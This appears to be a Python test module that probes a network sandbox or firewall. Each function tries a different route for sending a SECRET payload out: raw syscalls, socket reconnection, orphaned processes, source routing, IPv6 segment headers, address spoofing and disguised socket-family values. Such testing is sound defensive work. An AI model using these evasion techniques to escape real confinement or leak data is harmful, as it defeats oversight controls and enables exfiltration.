"""Techniques of a socket: TCP and UDP by every way to send, routed, spoofed, and other families. Stdlib only."""

from __future__ import annotations

import ctypes
import os
import socket
import struct

from bypass_table import LIBC, SECRET, WAIT_S, Refused, attempt, checked, family, heard, sockaddr, talk

MSG_FASTOPEN = 0x20000000


@attempt
def tcp(host: str, port: str) -> None:
    with socket.create_connection((host, int(port)), WAIT_S) as sock:
        talk(sock)


@attempt
def tcp_ctypes(host: str, port: str) -> None:
    address = sockaddr(host, int(port))
    with socket.socket(family(host), socket.SOCK_STREAM) as sock:
        checked(LIBC.connect(sock.fileno(), address, len(address)))
        talk(sock)


@attempt
def tcp_syscall(host: str, port: str) -> None:
    address = sockaddr(host, int(port))
    fd = checked(LIBC.syscall(41, family(host), socket.SOCK_STREAM, 0))
    checked(LIBC.syscall(42, fd, address, len(address)))
    with socket.socket(fileno=fd) as sock:
        talk(sock)


@attempt
def tcp_fast_open(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_STREAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, int(WAIT_S * 1e6)))
        sock.sendto(SECRET, MSG_FASTOPEN, (host, int(port)))
        heard(sock)


@attempt
def tcp_multipath(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_STREAM, 262) as sock:
        sock.settimeout(WAIT_S)
        sock.connect((host, int(port)))
        talk(sock)


@attempt
def tcp_mapped(host: str, port: str) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT_S)
        sock.connect((f"::ffff:{host}", int(port)))
        talk(sock)


@attempt
def tcp_after_disconnect(good: str, good_port: str, host: str, port: str) -> None:
    """A socket that was allowed somewhere, dissolved, and connected elsewhere."""
    with socket.socket(family(good), socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT_S)
        sock.connect((good, int(good_port)))
        unspec = bytes(16)
        checked(LIBC.connect(sock.fileno(), unspec, len(unspec)))
        sock.connect((host, int(port)))
        talk(sock)


@attempt
def tcp_from_orphan(host: str, port: str) -> None:
    """From a grandchild in a session of its own."""
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                tcp(host, port)
                os.write(write_end, b"reached")
            finally:
                os._exit(0)
        os._exit(0)
    os.close(write_end)
    if os.read(read_end, 20) != b"reached":
        raise Refused


@attempt
def udp(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.sendto(SECRET, (host, int(port)))
        heard(sock)


@attempt
def udp_connected(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
        sock.connect((host, int(port)))
        sock.send(SECRET)
        heard(sock)


@attempt
def udp_sendmsg(host: str, port: str) -> None:
    with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
        sock.sendmsg([SECRET], [], 0, (host, int(port)))
        heard(sock)


@attempt
def udp_sendmmsg(host: str, port: str) -> None:
    name = ctypes.create_string_buffer(sockaddr(host, int(port)), 28)
    data = ctypes.create_string_buffer(SECRET)
    iovec = (ctypes.c_size_t * 2)(ctypes.addressof(data), len(SECRET))
    length = len(sockaddr(host, int(port)))
    header = struct.pack("QIxxxxQQQQIxxxxIxxxx", ctypes.addressof(name), length, ctypes.addressof(iovec), 1, 0, 0, 0, 0)
    buffer = ctypes.create_string_buffer(header, len(header))
    with socket.socket(family(host), socket.SOCK_DGRAM) as sock:
        checked(LIBC.sendmmsg(sock.fileno(), buffer, 1, 0))
        heard(sock)


@attempt
def udp_elsewhere(good: str, good_port: str, host: str, port: str) -> None:
    """Connected to where it may, sent to where it may not."""
    with socket.socket(family(good), socket.SOCK_DGRAM) as sock:
        sock.connect((good, int(good_port)))
        sock.sendto(SECRET, (host, int(port)))
        heard(sock)


@attempt
def udp_source_routed(good: str, good_port: str, hop: str) -> None:
    """Connected to where it may, by way of where it may not (IPv4 loose source route; no privilege needed)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((good, int(good_port)))
        option = bytes((1, 131, 7, 4)) + socket.inet_aton(hop)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        sock.send(SECRET)
        heard(sock)


@attempt
def tcp_source_routed(good: str, good_port: str, hop: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.settimeout(WAIT_S)
        option = bytes((1, 131, 7, 4)) + socket.inet_aton(hop)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, option)
        sock.connect((good, int(good_port)))
        talk(sock)


@attempt
def udp6_segment_routed(good: str, good_port: str, hop: str) -> None:
    """The same by an IPv6 segment routing header (RFC 8754), which needs no privilege either."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.connect((good, int(good_port)))
        segments = [socket.inet_pton(socket.AF_INET6, a) for a in (good, hop)]
        header = bytes((0, 2 * len(segments), 4, 1, 1, 0, 0, 0)) + b"".join(segments)
        sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
        sock.send(SECRET)
        heard(sock)


@attempt
def udp6_spoofed(source: str, host: str, port: str) -> None:
    """IPV6_FREEBIND (78) lets anyone bind any source address."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IPV6, 78, 1)
        sock.bind((source, 0))
        sock.sendto(SECRET, (host, int(port)))
        heard(sock)


@attempt
def udp4_spoofed(source: str, host: str, port: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
        sock.bind((source, 0))
        sock.sendto(SECRET, (host, int(port)))
        heard(sock)


@attempt
def opens(domain: str, kind: str, protocol: str) -> None:
    """socket() alone; nothing is sent."""
    socket.socket(int(domain), int(kind), int(protocol)).close()


@attempt
def opens_by_syscall(domain: str, kind: str, protocol: str) -> None:
    """With high bits in the family, which the kernel ignores."""
    wide = ctypes.c_long(int(domain) | 1 << 32)
    os.close(checked(LIBC.syscall(ctypes.c_long(41), wide, ctypes.c_long(int(kind)), ctypes.c_long(int(protocol)))))


@attempt
def pairs(domain: str) -> None:
    socket.socketpair(int(domain), socket.SOCK_DGRAM)
